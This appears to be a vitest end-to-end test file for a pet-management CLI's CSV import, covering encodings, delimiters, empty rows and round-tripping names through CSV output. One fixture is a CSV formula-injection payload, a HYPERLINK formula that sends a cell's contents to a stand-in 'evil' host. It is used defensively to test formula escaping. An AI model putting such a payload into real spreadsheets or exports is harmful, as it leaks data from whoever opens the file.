import { describe, expect, it } from 'vitest';
import { expectCleanError, ok, setupE2e, writeInput } from '../helpers/cli';
import { creator } from '../helpers/pet-creator';
import type { RecordedRequest } from '../helpers/scripted-server';
import { importSummary, ndjsonRows } from '../helpers/import-run';

/** What spreadsheets really save, checked on the bodies the server received. Each rule's seam: test/bulk. */

/** Excel's "CSV" on Windows: windows-1252, CRLF. */
const CP1252 = Buffer.from('name,categoryId,status\r\nZo\xeb Caf\xe9,2,available\r\nRex,1,\r\n', 'latin1');
const EUROPE = 'Name;CategoryId;Status;Notes\r\n"Rex; the dog";1;available;"big, brown"\r\n;;;\r\n"Mia, ""cat""";2;;\r\n ; ;  ;\r\n;;;\r\n';

function bodies(requests: RecordedRequest[]): string[] {
  return requests.filter((r) => r.method === 'POST').map((r) => r.bodyBytes.toString('utf8'));
}

const body = (name: string, categoryId: number, status?: string) => JSON.stringify({ name, categoryId, status });

describe.concurrent('pets add --file: what spreadsheets save', () => {
  it.for([
    {
      what: 'windows-1252 with --encoding windows-1252',
      input: CP1252,
      flags: ['--encoding', 'windows-1252'],
      sent: [body('Zoë Café', 2, 'available'), body('Rex', 1)],
      lines: [2, 3],
    },
    {
      what: 'a ;-separated export: quoted ; and , kept, rows of empty fields skipped',
      input: EUROPE,
      flags: [],
      sent: [body('Rex; the dog', 1, 'available'), body('Mia, "cat"', 2)],
      lines: [2, 4],
    },
    {
      what: "Excel's empty rows (,,, and cells of spaces) with --skip-invalid",
      input: 'name,categoryId,status\r\nRex,1,available\r\n,,\r\n  ,   ,\r\n"",,""\r\nMia,2,\r\n,,\r\n',
      flags: ['--skip-invalid'],
      sent: [body('Rex', 1, 'available'), body('Mia', 2)],
      lines: [2, 6],
    },
    {
      what: '--delimiter tab (the header holding a comma)',
      input: 'name\tcategoryId\tnotes, more\nMia\t2\ta, b\n',
      flags: ['--delimiter', 'tab'],
      sent: [body('Mia', 2)],
      lines: [2],
    },
    {
      what: '--column category_id=Cat (the loose field name)',
      input: 'Name,Cat,Status\nRex,1,sold\n',
      flags: ['--column', 'category_id=Cat'],
      sent: [body('Rex', 1, 'sold')],
      lines: [2],
    },
  ])('$what: the server receives each row exactly; a rerun with the same flags sends nothing again', async ({ input, flags, sent, lines }, t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator());
    const args = ['pets', 'add', '--file', writeInput(configDir, 'export.csv', input), ...flags, '--concurrency', '1'];
    const first = await ok(petctl([...args, '-o', 'ndjson']));
    expect(bodies(server.requests)).toEqual(sent);
    expect(ndjsonRows(first.stdout).map((row) => row.line)).toEqual(lines);
    const again = await ok(petctl(args));
    expect(importSummary(again)).toMatchObject({ created: 0, skipped: sent.length, invalid: 0 });
    expect(server.requests).toHaveLength(sent.length);
  });

  it("refused at the first byte that is not its encoding, nothing sent, exit 6: windows-1252 read as UTF-8 (even with --skip-invalid), UTF-16 with a lone surrogate; cells stay text: the ' that -o csv writes before =, +, -, @, a tab or a CR is dropped, so the names arrive exact; 'Tis stays", async (t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator({ list: { existing: [] } }));
    const cp1252 = await petctl(['pets', 'add', '--file', writeInput(configDir, 'cp.csv', CP1252), '--skip-invalid']);
    expectCleanError(cp1252, 6);
    expect(cp1252.stderr).toBe('error: line 2 (row 1): not UTF-8 (byte 0xEB); save the file as "CSV UTF-8", or give --encoding windows-1252 (invalid_input)\n');
    const utf16 = await petctl(['pets', 'add', '--file', writeInput(configDir, 'broken.csv', Buffer.from('\ufeffname,categoryId\nA,1\nB\ud800,2\n', 'utf16le'))]);
    expect(utf16.code).toBe(6);
    expect(utf16.stderr).toMatch(/^error: line 3 \(row 2\): not UTF-16LE: a broken character .*\(invalid_input\)\n$/);
    expect(server.requests).toHaveLength(0);

    const names = ['=HYPERLINK("http://evil/?x="&A1,"click")', '-2+3', '+1', '@SUM(1+1)', "'Tis", "''=x"];
    // As -o csv writes them: RFC 4180 quoting, and a ' before a formula's first character.
    const written = names.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)).map((cell) => `"${cell.replaceAll('"', '""')}",1,`);
    const file = writeInput(configDir, 'round.csv', ['name,categoryId,status', ...written, ''].join('\r\n'));
    await ok(petctl(['pets', 'add', '--file', file]));
    expect(bodies(server.requests).map((sent) => (JSON.parse(sent) as { name: string }).name).sort()).toEqual([...names].sort());

    // Through petctl and back: the list as -o csv, imported into a second service, arrives as it left.
    const listed = await ok(petctl(['pets', 'list', '--all', '-o', 'csv']));
    const other = await setupE2e(t, creator());
    const again = await other.petctl(['pets', 'add', '--file', writeInput(configDir, 'listed.csv', listed.stdout)]);
    expect(again.code, again.stderr).toBe(0);
    expect(bodies(other.server.requests).map((sent) => (JSON.parse(sent) as { name: string }).name).sort()).toEqual([...names].sort());
  });
});
